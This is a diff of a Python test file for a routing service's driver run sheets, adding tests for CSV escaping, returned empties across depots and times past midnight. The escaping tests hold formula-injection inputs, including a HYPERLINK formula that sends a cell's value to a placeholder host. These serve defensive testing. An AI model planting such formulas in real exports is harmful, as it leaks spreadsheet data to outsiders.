@@ -3,12 +3,13 @@
 import csv
 import io
 import json
+import re
 from dataclasses import replace
 
 import pytest
 
 from routing.engines import ENGINES
-from routing.model import Budget, Counts, InputError, Plan, Problem, Standing
+from routing.model import DAY_S, Budget, Counts, InputError, Plan, Problem, Standing, Trip
 from routing.timetable import timetable
 from service.runsheet import csv_bytes, html_page, json_bytes, run_sheet, safe_cell
 
@@ -52,15 +53,46 @@ def test_csv_opens_in_a_spreadsheet(two_clinics: Problem) -> None:
     assert rows[0]["Cơ sở/Facility"].startswith("Trạm y tế")
 
 
-@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@x", "\tx", "  =1", "\r=1"])
-def test_no_cell_is_live(text: str, two_clinics: Problem) -> None:
-    """What would start a formula gets a quote, in names as well."""
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@x", "\tx", "  =1", "\r=1", "＝1+1"])
+def test_what_starts_a_formula_gets_a_quote(text: str) -> None:
+    """A quote goes before the whole cell, blanks and all."""
     assert safe_cell(text) == f"'{text}"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "=1+1",
+        'BV Một;=HYPERLINK("http://example.invalid/?"&A1)',
+        'BV Một;"=1+1"',
+        "TYT, +84",
+        "TYT;  -1",
+        "TYT\t@x",
+        "TYT;\n=1",
+        "TYT\r\n=1",
+        "a;b;=1;,=2",
+        "TYT;\u00a0=1",
+        ";;=1",
+    ],
+)
+@pytest.mark.parametrize("separator", [",", ";", "\t"])
+def test_no_cell_is_live_under_any_separator(text: str, separator: str, two_clinics: Problem) -> None:
+    """Whatever a spreadsheet cuts cells at, none begins with a formula, in names and titles alike."""
     facilities = tuple(replace(f, name=text) for f in two_clinics.facilities)
     problem = two_clinics.replace(facilities=facilities)
     data = csv_bytes(run_sheet(problem, plan(problem), "depot")).decode("utf-8-sig")
-    cells = [cell for row in csv.reader(io.StringIO(data, newline="")) for cell in row]
-    assert not [cell for cell in cells if cell.lstrip(" ")[:1] in tuple("=+-@\t\r") and cell]
+    # A spreadsheet may also heed no quotation marks at all.
+    cells = [cell for row in csv.reader(io.StringIO(data, newline=""), delimiter=separator) for cell in row]
+    cells += [cell for line in data.splitlines() for cell in line.split(separator)]
+    live = [cell for cell in cells if cell.lstrip(' \t\r\n\u00a0"')[:1] in tuple("=+-@＝") and cell]
+    assert not live
+    assert any("'" in cell for cell in cells)
+
+
+def test_harmless_text_stays_as_it_is() -> None:
+    """Hyphens, plus signs and addresses inside a text are left alone."""
+    for text in ("BV Đa khoa - cơ sở 2", "a+b", "x@y.vn", "07:00–08:00", "Trạm Y tế Trà Linh, Nam Trà My"):
+        assert safe_cell(text) == text
 
 
 def test_page_escapes_names(two_clinics: Problem) -> None:
@@ -87,6 +119,68 @@ def test_page_tells_what_a_driver_needs(two_clinics: Problem) -> None:
         assert wanted in page
     assert "http" not in page
     assert "src=" not in page
+
+
+def ends_elsewhere(problem: Problem) -> Problem:
+    """Return the day with trucks that load in the west and end at the east depot."""
+    trucks = tuple(
+        replace(
+            v, start_depot_id="west", end_depot_id="east", load_depot_ids=frozenset({"west"}), max_trips=1
+        )
+        for v in problem.vehicles
+    )
+    orders = tuple(replace(order, collect=order.deliver) for order in problem.orders)
+    return problem.replace(vehicles=trucks, orders=orders)
+
+
+def test_empties_stand_on_the_sheet_of_the_depot_where_they_end(two_depots: Problem) -> None:
+    """A truck that ends at another depot brings its empties there: that sheet lists them, with the time."""
+    problem = ends_elsewhere(two_depots)
+    made = plan(problem)
+    west, east = (run_sheet(problem, made, key) for key in ("west", "east"))
+    collected = sum((stop.collected for stop in made.stops), Counts())
+    assert collected
+    assert (west.returns, west.empties_back) == ((), Counts())
+    assert east.empties_back == collected == sum((back.empties for back in east.returns), Counts())
+    assert {trip.back_depot_id for trip in west.trips} == {"east"}
+    ends = {route.vehicle_id: route.finish.arrive_s for route in made.routes}
+    assert [back.at_s for back in east.returns] == [ends[back.vehicle_id] for back in east.returns]
+    assert not east.trips
+    page, rows = html_page(east), list(csv.DictReader(io.StringIO(csv_bytes(east).decode("utf-8-sig"))))
+    assert "Vỏ về kho này" in page
+    assert {row["Loại/Kind"] for row in rows} == {"vỏ về/return"}
+    assert sum(int(row["Thu rỗng/Empty 40L"]) for row in rows) == collected["40L"]
+    assert problem.depot_by_id["east"].name in html_page(west)
+
+
+def test_each_empty_comes_back_once(world: Problem) -> None:
+    """Over all depots, the empties that come back are those collected, each once."""
+    made = plan(world)
+    sheets = [run_sheet(world, made, depot.id) for depot in world.depots]
+    back = sum((sheet.empties_back for sheet in sheets), Counts())
+    assert back == sum((stop.collected for stop in made.stops), Counts())
+
+
+def test_times_past_midnight_have_their_date(two_clinics: Problem) -> None:
+    """What happens at 24:30 is told as 00:30 of the next day, on paper and in tables."""
+    made = plan(two_clinics)
+    late = replace(
+        made, routes=tuple(replace(r, trips=tuple(map(_a_day_later, r.trips))) for r in made.routes)
+    )
+    sheet = run_sheet(two_clinics, late, "depot")
+    day, following = two_clinics.date.split("-")[2], int(two_clinics.date.split("-")[2]) + 1
+    assert int(day) < 28
+    for text in (html_page(sheet), csv_bytes(sheet).decode()):
+        assert f"({following:02d}/" in text
+        assert not re.search(r"\b(2[4-9]|[3-9]\d):[0-5]\d", text)
+
+
+def _a_day_later(trip: Trip) -> Trip:
+    leg = lambda one: replace(one, depart_s=one.depart_s + DAY_S, arrive_s=one.arrive_s + DAY_S)  # noqa: E731
+    stops = tuple(
+        replace(s, leg=leg(s.leg), begin_s=s.begin_s + DAY_S, end_s=s.end_s + DAY_S) for s in trip.stops
+    )
+    return replace(trip, begin_s=trip.begin_s + DAY_S, end_s=trip.end_s + DAY_S, stops=stops)
 
 
 def test_label_is_for_estimates_only(two_clinics: Problem) -> None:
